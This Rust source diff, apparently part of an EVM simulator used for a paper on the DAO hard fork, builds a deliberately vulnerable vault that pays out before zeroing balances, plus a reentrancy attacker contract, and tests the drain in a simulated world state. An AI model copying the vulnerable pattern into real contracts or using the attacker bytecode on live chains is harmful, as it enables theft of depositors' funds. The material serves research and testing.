@@ -1,0 +1,362 @@
+//! Canned contracts used by tests, examples and workload generators.
+//!
+//! The centerpiece is a faithful-in-shape reproduction of the DAO
+//! vulnerability: a deposit/withdraw vault whose `withdraw` **sends ether to
+//! the caller before zeroing the caller's balance slot**, paired with an
+//! attacker contract whose receive path re-enters `withdraw`. Running the
+//! pair drains the vault of other depositors' funds — the June 2016 event
+//! that precipitated the hard fork this paper studies.
+//!
+//! All contracts dispatch on the first 32-byte word of calldata:
+//! `0 = deposit`, `1 = withdraw` for the vault; the attacker uses empty
+//! calldata as its reentrant receive path.
+
+use fork_primitives::U256;
+
+use crate::opcode::{Assembler, Opcode};
+
+/// Selector word for vault deposits.
+pub const SEL_DEPOSIT: u64 = 0;
+/// Selector word for vault withdrawals.
+pub const SEL_WITHDRAW: u64 = 1;
+
+/// Gas forwarded on the vault's payout call — generous, exactly the mistake
+/// the DAO made (a bounded `send` would have prevented reentrancy).
+const PAYOUT_GAS: u64 = 1_000_000;
+
+fn push2(asm: Assembler, v: u16) -> Assembler {
+    // Fixed-width PUSH2 so jump targets stay stable across assembly passes.
+    asm.raw(0x61).raw((v >> 8) as u8).raw(v as u8)
+}
+
+/// The vulnerable vault ("the DAO"): per-caller balances in storage keyed by
+/// caller address; `withdraw` pays before zeroing.
+pub fn vulnerable_vault() -> Vec<u8> {
+    // Two-pass assembly: first with dummy targets to learn offsets.
+    let build = |withdraw_at: u16, end_at: u16| -> Assembler {
+        let mut a = Assembler::new();
+        // if calldataload(0) != 0 -> withdraw
+        a = a.push(0).op(Opcode::CallDataLoad);
+        a = push2(a, withdraw_at);
+        a = a.op(Opcode::JumpI);
+        // deposit: slot[caller] += callvalue
+        a = a
+            .op(Opcode::Caller)
+            .op(Opcode::SLoad)
+            .op(Opcode::CallValue)
+            .op(Opcode::Add)
+            .op(Opcode::Caller)
+            .op(Opcode::SStore)
+            .op(Opcode::Stop);
+        let withdraw = a.len() as u16;
+        a = a.op(Opcode::JumpDest);
+        // amount = slot[caller]; if amount == 0 -> end
+        a = a.op(Opcode::Caller).op(Opcode::SLoad);
+        a = a.dup(1).op(Opcode::IsZero);
+        a = push2(a, end_at);
+        a = a.op(Opcode::JumpI);
+        // CALL(gas=PAYOUT_GAS, to=caller, value=amount, no data)
+        // push order: out_len, out_off, in_len, in_off, value, to, gas
+        a = a.push(0).push(0).push(0).push(0);
+        a = a.dup(5); // amount (beneath the four zeros)
+        a = a.op(Opcode::Caller);
+        a = a.push(PAYOUT_GAS);
+        a = a.op(Opcode::Call).op(Opcode::Pop);
+        // THE BUG: zeroing happens only now, after the reentrant call window.
+        a = a.push(0).op(Opcode::Caller).op(Opcode::SStore);
+        let end = a.len() as u16;
+        a = a.op(Opcode::JumpDest).op(Opcode::Pop).op(Opcode::Stop);
+        debug_assert_eq!(withdraw_at == 0 || withdraw == withdraw_at, true);
+        debug_assert_eq!(end_at == 0 || end == end_at, true);
+        a
+    };
+    // Pass 1: discover offsets with zero targets.
+    let pass1 = build(0, 0);
+    let _ = pass1.len();
+    // Recompute actual label offsets by replaying the construction.
+    let (withdraw_at, end_at) = vault_offsets();
+    build(withdraw_at, end_at).build()
+}
+
+/// Replays the vault layout to find its two jump-target offsets. Kept in
+/// lockstep with [`vulnerable_vault`]'s construction (fixed-width pushes make
+/// the layout independent of the target values).
+fn vault_offsets() -> (u16, u16) {
+    // Header: PUSH1 0, CALLDATALOAD, PUSH2 t, JUMPI = 2+1+3+1 = 7
+    // deposit: CALLER SLOAD CALLVALUE ADD CALLER SSTORE STOP = 7
+    let withdraw = 7 + 7; // 14
+    // withdraw body:
+    // JUMPDEST(1) CALLER(1) SLOAD(1) DUP1(1) ISZERO(1) PUSH2(3) JUMPI(1) = 9
+    // four PUSH1 0 (8), DUP5(1), CALLER(1), PUSH3 gas(4), CALL(1), POP(1) = 16
+    // PUSH1 0(2) CALLER(1) SSTORE(1) = 4
+    let end = withdraw + 9 + 16 + 4; // 43
+    (withdraw as u16, end as u16)
+}
+
+/// The reentrancy attacker.
+///
+/// * Non-empty calldata (setup): word0 = reentry budget, word1 = vault
+///   address; deposits `callvalue` into the vault, then calls `withdraw`.
+/// * Empty calldata (receive): if budget > 0, decrement and re-enter
+///   `withdraw` — the classic drain loop.
+pub fn reentrancy_attacker() -> Vec<u8> {
+    let build = |fallback_at: u16, end_at: u16| -> Assembler {
+        let mut a = Assembler::new();
+        // if calldatasize == 0 -> fallback
+        a = a.op(Opcode::CallDataSize).op(Opcode::IsZero);
+        a = push2(a, fallback_at);
+        a = a.op(Opcode::JumpI);
+        // setup: slot0 = budget, slot1 = vault
+        a = a.push(0).op(Opcode::CallDataLoad).push(0).op(Opcode::SStore);
+        a = a.push(32).op(Opcode::CallDataLoad).push(1).op(Opcode::SStore);
+        // deposit: CALL(gas, vault, callvalue, empty input)
+        a = a.push(0).push(0).push(0).push(0);
+        a = a.op(Opcode::CallValue);
+        a = a.push(1).op(Opcode::SLoad);
+        a = a.push(PAYOUT_GAS);
+        a = a.op(Opcode::Call).op(Opcode::Pop);
+        // withdraw: mstore(0, 1); CALL(gas, vault, 0, input[0..32])
+        a = a.push(1).push(0).op(Opcode::MStore);
+        a = a.push(0).push(0).push(32).push(0).push(0);
+        a = a.push(1).op(Opcode::SLoad);
+        a = a.push(PAYOUT_GAS);
+        a = a.op(Opcode::Call).op(Opcode::Pop);
+        a = a.op(Opcode::Stop);
+        let fallback = a.len() as u16;
+        a = a.op(Opcode::JumpDest);
+        // if slot0 == 0 -> end
+        a = a.push(0).op(Opcode::SLoad);
+        a = a.dup(1).op(Opcode::IsZero);
+        a = push2(a, end_at);
+        a = a.op(Opcode::JumpI);
+        // slot0 -= 1  (stack: [budget])
+        a = a.push(1).swap(1).op(Opcode::Sub).push(0).op(Opcode::SStore);
+        // re-enter withdraw: mstore(0,1); CALL(gas, vault, 0, in 0..32)
+        a = a.push(1).push(0).op(Opcode::MStore);
+        a = a.push(0).push(0).push(32).push(0).push(0);
+        a = a.push(1).op(Opcode::SLoad);
+        a = a.push(PAYOUT_GAS);
+        a = a.op(Opcode::Call).op(Opcode::Pop);
+        a = a.op(Opcode::Stop);
+        let end = a.len() as u16;
+        a = a.op(Opcode::JumpDest).op(Opcode::Pop).op(Opcode::Stop);
+        debug_assert_eq!(fallback_at == 0 || fallback == fallback_at, true);
+        debug_assert_eq!(end_at == 0 || end == end_at, true);
+        a
+    };
+    // Compute offsets via a discovery pass.
+    let probe_fallback;
+    let probe_end;
+    {
+        // Replay the exact shape to measure offsets.
+        let a = build(0, 0);
+        let code = a.build();
+        // fallback JUMPDEST is the first 0x5B *after* the setup STOP; end is
+        // the second. Scan for them robustly (fixed-width pushes guarantee
+        // positions are stable).
+        let mut found = Vec::new();
+        let mut i = 0;
+        while i < code.len() {
+            let b = code[i];
+            if b == Opcode::JumpDest as u8 {
+                found.push(i as u16);
+            }
+            if (0x60..=0x7F).contains(&b) {
+                i += (b - 0x5F) as usize;
+            }
+            i += 1;
+        }
+        probe_fallback = found[0];
+        probe_end = found[1];
+    }
+    build(probe_fallback, probe_end).build()
+}
+
+/// A benign "storage churner": every call writes `calldataword(0)` into a
+/// rotating slot. Generates contract-call transactions for the Figure 2
+/// workload mix.
+pub fn storage_churner() -> Vec<u8> {
+    Assembler::new()
+        // slot = sload(0) ; sstore(slot+1, calldataload(0)) ; sstore(0, slot+1)
+        .push(0)
+        .op(Opcode::SLoad)
+        .push(1)
+        .op(Opcode::Add) // slot+1
+        .dup(1)
+        .push(0)
+        .op(Opcode::CallDataLoad)
+        .swap(1)
+        .op(Opcode::SStore) // sstore(slot+1, word)
+        .push(0)
+        .op(Opcode::SStore) // sstore(0, slot+1)
+        .op(Opcode::Stop)
+        .build()
+}
+
+/// A forwarding wallet: any value sent is immediately forwarded to the
+/// address stored in slot 0. Exercises nested value-bearing calls.
+pub fn forwarder() -> Vec<u8> {
+    Assembler::new()
+        .push(0)
+        .push(0)
+        .push(0)
+        .push(0)
+        .op(Opcode::CallValue)
+        .push(0)
+        .op(Opcode::SLoad) // forward-to address
+        .push(PAYOUT_GAS)
+        .op(Opcode::Call)
+        .op(Opcode::Pop)
+        .op(Opcode::Stop)
+        .build()
+}
+
+/// Calldata for the vault's deposit path (any empty word).
+pub fn vault_deposit_calldata() -> Vec<u8> {
+    U256::from_u64(SEL_DEPOSIT).to_be_bytes().to_vec()
+}
+
+/// Calldata for the vault's withdraw path.
+pub fn vault_withdraw_calldata() -> Vec<u8> {
+    U256::from_u64(SEL_WITHDRAW).to_be_bytes().to_vec()
+}
+
+/// Calldata that primes the attacker: `budget` reentries against `vault`.
+pub fn attacker_setup_calldata(budget: u64, vault: fork_primitives::Address) -> Vec<u8> {
+    let mut data = Vec::with_capacity(64);
+    data.extend_from_slice(&U256::from_u64(budget).to_be_bytes());
+    data.extend_from_slice(&crate::interpreter::address_to_u256(vault).to_be_bytes());
+    data
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::gas::GasSchedule;
+    use crate::interpreter::{BlockContext, CallParams, Evm, TxContext};
+    use crate::world::WorldState;
+    use fork_primitives::Address;
+
+    fn addr(n: u8) -> Address {
+        Address([n; 20])
+    }
+
+    fn call(
+        world: &mut WorldState,
+        caller: Address,
+        to: Address,
+        value: u64,
+        input: Vec<u8>,
+    ) -> bool {
+        let mut evm = Evm::new(
+            world,
+            GasSchedule::frontier(),
+            BlockContext::default(),
+            TxContext {
+                origin: caller,
+                gas_price: U256::ONE,
+            },
+        );
+        let r = evm.call(CallParams {
+            caller,
+            address: to,
+            value: U256::from_u64(value),
+            input,
+            gas: 8_000_000,
+        });
+        r.success
+    }
+
+    #[test]
+    fn vault_deposit_and_honest_withdraw() {
+        let mut w = WorldState::new();
+        let vault = addr(0xDA);
+        let user = addr(0x01);
+        w.set_code(vault, vulnerable_vault());
+        w.set_balance(user, U256::from_u64(1_000));
+
+        assert!(call(&mut w, user, vault, 400, vault_deposit_calldata()));
+        assert_eq!(w.balance(vault), U256::from_u64(400));
+
+        assert!(call(&mut w, user, vault, 0, vault_withdraw_calldata()));
+        assert_eq!(w.balance(vault), U256::ZERO);
+        assert_eq!(w.balance(user), U256::from_u64(1_000));
+    }
+
+    #[test]
+    fn double_withdraw_yields_nothing_extra() {
+        let mut w = WorldState::new();
+        let vault = addr(0xDA);
+        let user = addr(0x01);
+        w.set_code(vault, vulnerable_vault());
+        w.set_balance(user, U256::from_u64(1_000));
+        call(&mut w, user, vault, 400, vault_deposit_calldata());
+        call(&mut w, user, vault, 0, vault_withdraw_calldata());
+        // Second withdraw: slot is zero, pays nothing.
+        assert!(call(&mut w, user, vault, 0, vault_withdraw_calldata()));
+        assert_eq!(w.balance(user), U256::from_u64(1_000));
+    }
+
+    #[test]
+    fn dao_drain_via_reentrancy() {
+        let mut w = WorldState::new();
+        let vault = addr(0xDA);
+        let attacker_contract = addr(0xBA);
+        let attacker_eoa = addr(0x66);
+        let victim = addr(0x01);
+
+        w.set_code(vault, vulnerable_vault());
+        w.set_code(attacker_contract, reentrancy_attacker());
+        w.set_balance(victim, U256::from_u64(10_000));
+        w.set_balance(attacker_eoa, U256::from_u64(1_000));
+
+        // Victims fill the vault with 10,000 wei.
+        assert!(call(&mut w, victim, vault, 10_000, vault_deposit_calldata()));
+        assert_eq!(w.balance(vault), U256::from_u64(10_000));
+
+        // Attacker primes: deposit 1,000, reenter 4 more times.
+        assert!(call(
+            &mut w,
+            attacker_eoa,
+            attacker_contract,
+            1_000,
+            attacker_setup_calldata(4, vault),
+        ));
+
+        // Deposited once (1,000) but withdrew 5 times (5,000):
+        // profit = 4,000 of the victims' money.
+        let loot = w.balance(attacker_contract);
+        assert_eq!(loot, U256::from_u64(5_000));
+        assert_eq!(w.balance(vault), U256::from_u64(6_000));
+
+        // Shape check against the real event: the attacker extracted other
+        // depositors' funds without any invalid transaction — "the contract
+        // calls were all perfectly valid" (paper §2.1).
+    }
+
+    #[test]
+    fn storage_churner_rotates_slots() {
+        let mut w = WorldState::new();
+        let c = addr(0x05);
+        w.set_code(c, storage_churner());
+        let word = |v: u64| U256::from_u64(v).to_be_bytes().to_vec();
+        assert!(call(&mut w, addr(1), c, 0, word(111)));
+        assert!(call(&mut w, addr(1), c, 0, word(222)));
+        assert_eq!(w.storage(c, U256::from_u64(1)), U256::from_u64(111));
+        assert_eq!(w.storage(c, U256::from_u64(2)), U256::from_u64(222));
+        assert_eq!(w.storage(c, U256::ZERO), U256::from_u64(2));
+    }
+
+    #[test]
+    fn forwarder_passes_value_through() {
+        let mut w = WorldState::new();
+        let f = addr(0x0F);
+        let sink = addr(0x55);
+        w.set_code(f, forwarder());
+        w.set_storage(f, U256::ZERO, crate::interpreter::address_to_u256(sink));
+        w.set_balance(addr(1), U256::from_u64(500));
+        assert!(call(&mut w, addr(1), f, 500, Vec::new()));
+        assert_eq!(w.balance(sink), U256::from_u64(500));
+        assert_eq!(w.balance(f), U256::ZERO);
+    }
+}
